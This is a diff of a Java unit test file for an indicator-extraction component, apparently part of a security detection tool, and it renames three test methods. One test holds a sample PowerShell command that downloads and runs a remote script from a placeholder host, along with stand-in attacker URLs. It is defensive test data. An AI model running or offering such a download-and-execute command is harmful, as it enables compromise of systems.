@@ -13,7 +13,7 @@ import org.junit.jupiter.api.Test;
 class ObservablesTest {
 
     @Test
-    void theAddressAndTheUrlInsideAnEncodedCommandAreObservables() {
+    void addressAndUrlOfAnEncodedCommandAreObservables() {
         String script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66:8080/a.ps1');"
                 + " $c = 'https://Drop.Evil.example/x?y=1'; connect 2001:db8::c2";
         String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
@@ -28,7 +28,7 @@ class ObservablesTest {
     }
 
     @Test
-    void theTargetAccountTheServiceAndHashesOfEveryLengthAreObservables() {
+    void targetAccountServiceAndHashesOfEveryLengthAreObservables() {
         String sha512 = "ab".repeat(64);
         assertThat(Observables.of(Map.of(
                         "TargetUserName",
@@ -52,7 +52,7 @@ class ObservablesTest {
     }
 
     @Test
-    void timesVersionsAndLoopbackAreNoAddresses() {
+    void timesVersionsAndLoopbackAreNotAddresses() {
         assertThat(Observables.of(Map.of(
                         "CommandLine",
                         "at 12:30:59 run v1.2.3.4.5 from 127.0.0.1 and ::1 with C:\\x\\y.exe 300.1.1.1 0.0.0.0")))
